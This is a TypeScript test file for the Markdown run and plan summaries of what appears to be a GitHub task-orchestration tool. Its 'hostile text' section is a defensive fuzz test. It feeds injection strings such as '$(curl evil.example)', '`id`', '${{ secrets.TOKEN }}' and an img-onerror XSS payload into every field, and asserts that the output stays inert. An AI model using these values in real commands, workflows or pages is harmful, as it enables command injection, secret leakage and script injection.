import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { renderPlanSummary } from "../../src/views/plan-summary.ts";
import { renderRunSummary, type RunView } from "../../src/views/run-summary.ts";
import type { TaskView } from "../../src/views/task-view.ts";
import { givenAssignment, givenDefinition, givenTask, givenView, noon } from "./given.ts";

const nothing: RunView = {
  overview: {
    mode: "balanced",
    isPaused: false,
    counts: {},
    running: [],
    next: [],
    attention: [],
    workersBusy: 0,
    workersTotal: 2,
    costTodayUsd: 0,
    sessionsToday: 0,
    configurationProblems: [],
  },
  started: [],
  ended: [],
  waiting: [],
  waitingCount: 0,
  graph: [],
  isComplete: true,
  nextDueAt: null,
  lastWrittenAt: null,
  now: noon,
  usage: { rest: 1, notModified: 1, graphql: 0, restLeft: { left: 999, limit: 1_000 }, graphqlLeft: null },
  isJobToken: false,
};

function taskNamed(title: string, number = 12): TaskView {
  return givenView({
    task: givenTask({ definition: givenDefinition({ title, number }), assignment: givenAssignment() }),
    status: "assigned",
    reasons: givenAssignment().reasons,
    waiting: [{ code: "blocked", detail: title }],
  });
}

function everywhere(text: string): RunView {
  const view = taskNamed(text);
  const graph = [
    {
      reference: text,
      title: text,
      status: "ready" as const,
      group: text,
      blockedBy: [{ reference: text, kind: "hard" as const }],
    },
  ];
  const overview = { ...nothing.overview, configurationProblems: [text] };
  return { ...nothing, overview, started: [view], ended: [view], waiting: [view], waitingCount: 1, graph };
}

describe("a run", () => {
  test("that did nothing says so in three lines, and what it asked", () => {
    expect(renderRunSummary(nothing)).toBe(
      [
        "## Orchestrate",
        "",
        "**Nothing was started and nothing has ended.**",
        "",
        "- Tasks: none",
        "- Workers: 0 of 2 busy",
        "- Mode: balanced (priority, unblocking and effort weighed together)",
        "",
        "### This run",
        "",
        "- GitHub was asked 1 time over REST (999 of 1000 left this hour) and 0 times over GraphQL; 1 answer said that nothing had changed, which costs nothing",
        "- Nobody has written anything before this run",
        "",
      ].join("\n"),
    );
  });
  test("says when the last one wrote, what is due, that its time was up, and what an App's token would add", () => {
    const summary = renderRunSummary({
      ...nothing,
      isComplete: false,
      lastWrittenAt: noon - 3 * 3_600_000,
      nextDueAt: noon + 600_000,
      isJobToken: true,
    });
    expect(summary).toContain("The time of this run was up");
    expect(summary).toContain("last had something to write at 2026-11-21 09:00 UTC, 3 h ago");
    expect(summary).toContain("Something is due at 2026-11-21 12:10 UTC");
    expect(summary).toContain("5,000 requests an hour instead of 1,000");
  });
  test("tells what was started with agent, worker and reason, and what waits and why", () => {
    const summary = renderRunSummary({ ...everywhere("Add a login page"), waitingCount: 60 });
    expect(summary).toMatch(
      /\| \[#12\]\(\S+\) Add a login page \| .* \| `jules\/1` \| rank \d+ of \d+ by \w+, suits it with \d+ %/,
    );
    expect(summary).toContain("and 59 more");
  });
  test("tells that a task was started for its wait, and not by its rank", () => {
    const view = taskNamed("Add a login page");
    const reasons = { ...givenAssignment().reasons, starvedMs: 8 * 24 * 60 * 60_000 };
    const summary = renderRunSummary({ ...everywhere("Add a login page"), started: [{ ...view, reasons }] });
    expect(summary).toMatch(/\| `jules\/1` \| starving after 8 d, suits it with \d+ %/);
  });
});

describe("hostile text", () => {
  const attack = fc.constantFrom(
    "$(curl evil.example)",
    "`id`",
    "${{ secrets.TOKEN }}",
    "<img src=x onerror=alert(1)>",
    "<!-- orchestrate:sticky -->",
    "| cell |",
    "\n## Heading\n",
    "\r\n| row | row |",
    "```",
    "@octocat",
    "#123",
    "https://evil.example",
    "\u0000\u0007\u001B[31m",
    "\u202E\u200B",
  );
  const hostile = fc
    .array(fc.oneof(attack, fc.string({ unit: "binary", maxLength: 8 })), { minLength: 1, maxLength: 6 })
    .map((parts) => parts.join(""));

  /** The lines that make the form: headings, rows, fences. They are the same whatever is written in them. */
  function formOf(summary: string): readonly string[] {
    return summary.split("\n").map((line) => {
      if (line.startsWith("| ")) return `row of ${line.match(/(?<!\\)\|/g)?.length ?? 0}`;
      return /^(?:#+ |```|graph )/.test(line) ? line : "";
    });
  }

  /** What is inline code is shown as it is. */
  function outsideCode(summary: string): string {
    return summary.replaceAll(/`[^`\n]+`/g, "");
  }

  test("changes neither the form of the page nor pings, tags or hides anything", () => {
    const plain = formOf(renderRunSummary(everywhere("Plain")));
    fc.assert(
      fc.property(hostile, (text) => {
        const summary = renderRunSummary(everywhere(text));
        expect(formOf(summary)).toEqual(plain);
        expect(outsideCode(summary)).not.toMatch(/<(?:img|!--)|@octocat|\p{Cf}/u);
        expect(summary.replaceAll("\n", "")).not.toMatch(/\p{Cc}/u);
      }),
    );
  });
  test("of a plan likewise", () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const task = { id: text, title: text, status: "ready" as const, estimateMinutes: null, blockedBy: [] };
        const summary = renderPlanSummary(
          {
            mode: "balanced",
            order: [text],
            ready: [text],
            blocked: new Map(),
            stages: [[text]],
            criticalPath: { tasks: [text], minutes: 30 },
            impact: new Map(),
            impactError: null,
            scores: new Map([[text, 1]]),
            cycles: [[text]],
            cuts: [[{ blocker: text, blocked: text }]],
            assignments: [],
          },
          new Map([[text, task]]),
        );
        expect(formOf(summary).filter((line) => line !== "")).toEqual([
          "## Plan",
          "row of 7",
          "row of 7",
          "row of 7",
          "```mermaid",
          "graph LR",
          "```",
        ]);
        expect(outsideCode(summary)).not.toMatch(/<(?:img|!--)|@octocat|\p{Cf}/u);
        expect(summary.replaceAll("\n", "")).not.toMatch(/\p{Cc}/u);
      }),
    );
  });
});

test("a page of the longest texts stays under the mebibyte that GitHub takes", () => {
  const text = "😀&|".repeat(2_000);
  const many = Array.from({ length: 5_000 }, (_, place) => ({ ...taskNamed(text, place + 1) }));
  const summary = renderRunSummary({
    ...everywhere(text),
    started: many,
    ended: many,
    waiting: many,
    waitingCount: many.length,
    graph: many.map(({ task }, place) => ({
      reference: `#${place}`,
      title: text,
      status: "blocked",
      group: `${task.definition.number % 90} ${text}`,
      blockedBy: Array.from({ length: 9 }, (_, step) => ({ reference: `#${place - step - 1}`, kind: "hard" as const })),
    })),
  });
  expect(Buffer.byteLength(summary)).toBeLessThan(1_048_576);
  expect(summary).toContain("### This run");
});
